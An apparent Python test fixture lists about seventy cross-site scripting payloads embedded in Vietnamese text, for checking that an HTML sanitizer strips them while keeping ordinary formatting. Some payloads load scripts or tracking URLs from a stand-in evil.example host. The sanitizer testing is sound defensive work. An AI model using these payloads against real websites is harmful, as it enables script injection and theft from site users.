"""Cross-site scripting vectors, each wrapped in Vietnamese text as real content would be.

Sources of inspiration: the OWASP XSS filter evasion cheat sheet, PortSwigger's XSS
cheat sheet, and known mutation-XSS payloads against HTML sanitizers. None of them may
execute or survive as markup on any page.
"""

RAW_VECTORS = [
    # Script elements, plain and disguised
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<script>alert(String.fromCharCode(88,83,83))</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/src=data:text/javascript,alert(1)></script>",
    '<script\x20type="text/javascript">alert(1);</script>',
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<script>/*</script><svg onload=alert(1)>*/</script>",
    # Event-handler attributes
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x OnErRoR=alert(1)>",
    '<img src="x" onerror="&#97;&#108;&#101;&#114;&#116;(1)">',
    "<body onload=alert(1)>",
    '<div onmouseover="alert(1)">rê chuột</div>',
    "<p onclick=alert(1)>bấm</p>",
    '<a href="#" onfocus=alert(1) autofocus>liên kết</a>',
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)>",
    '<video><source onerror="alert(1)"></video>',
    "<audio src=x onerror=alert(1)>",
    "<marquee onstart=alert(1)>chữ chạy</marquee>",
    "<select onfocus=alert(1) autofocus>",
    "<textarea onfocus=alert(1) autofocus>",
    "<img src=x:alert(alt) onerror=eval(src) alt=0>",
    # javascript:, vbscript:, data: URLs in every URL-bearing attribute
    '<a href="javascript:alert(1)">bấm vào đây</a>',
    '<a href="JaVaScRiPt:alert(1)">bấm</a>',
    '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">mã hóa</a>',
    '<a href="&#x6A;avascript:alert(1)">hex</a>',
    '<a href="java\tscript:alert(1)">tab</a>',
    '<a href="java&#x0A;script:alert(1)">xuống dòng</a>',
    '<a href=" javascript:alert(1)">dấu cách</a>',
    '<a href="vbscript:msgbox(1)">vbs</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">dữ liệu</a>',
    '<img src="javascript:alert(1)">',
    '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<iframe src="javascript:alert(1)"></iframe>',
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    '<form action="javascript:alert(1)"><button>gửi</button></form>',
    '<button formaction="javascript:alert(1)">nút</button>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    "<link rel=import href=//evil.example>",
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<a xlink:href="javascript:alert(1)">xlink</a>',
    # SVG and MathML
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">XSS</text></a></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>"/></svg>',
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<math href="javascript:alert(1)">CLICK</math>',
    "<math><maction actiontype=statusline xlink:href=javascript:alert(1)>bấm</maction></math>",
    # Style-based attacks
    '<div style="background:url(javascript:alert(1))">nền</div>',
    '<p style="width:expression(alert(1))">IE</p>',
    "<style>@import 'javascript:alert(1)';</style>",
    "<style>body{background:url(//evil.example/track)}</style>",
    '<span style="position:fixed;top:0;left:0;width:100%;height:100%">phủ trang</span>',
    # Mutation XSS and parser confusion
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<template><img src=x onerror=alert(1)></template>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<xmp><img src=x onerror=alert(1)></xmp>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<title><img src=x onerror=alert(1)></title>",
    '<a href="https://example.gov.vn" target="_blank">mở tab</a><img src=x onerror=alert(1)>',
    # Entity- and case-encoded
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\u003cscript\u003ealert(1)\u003c/script\u003e",
    "<ScRiPt>alert(1)</sCrIpT>",
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '{{ 7|add:7 }}{% now "Y" %}',
]

VECTORS = [f"Nghị quyết số 57-NQ/TW {vector} về chuyển đổi số quốc gia" for vector in RAW_VECTORS]

# Formatting that must survive the body's sanitizer intact.
LEGITIMATE_BODY = (
    "<h2>Những nội dung cốt lõi</h2>"
    "<p>Đồng chí <strong>Tô Lâm</strong> nhấn mạnh vai trò <em>đặc biệt quan trọng</em> của "
    '<a href="https://chinhphu.vn/nghi-quyet-57">Nghị quyết 57-NQ/TW</a>.</p>'
    "<ul><li>Hoàn thiện thể chế</li><li>Phát triển hạ tầng số</li></ul>"
    "<ol><li>Năm 2025</li><li>Năm 2030</li></ol>"
    "<blockquote><p>Khoa học, công nghệ là đột phá quan trọng hàng đầu.</p></blockquote>"
    '<figure class="image"><img src="/media/images/renditions/anh.jpg" alt="Hội trường"><figcaption>Hội trường UBND tỉnh</figcaption></figure>'
    "<table><thead><tr><th>Cấp</th><th>Số điểm cầu</th></tr></thead>"
    "<tbody><tr><td>Cấp tỉnh</td><td>01</td></tr><tr><td>Cấp cơ sở</td><td>251</td></tr></tbody></table>"
)
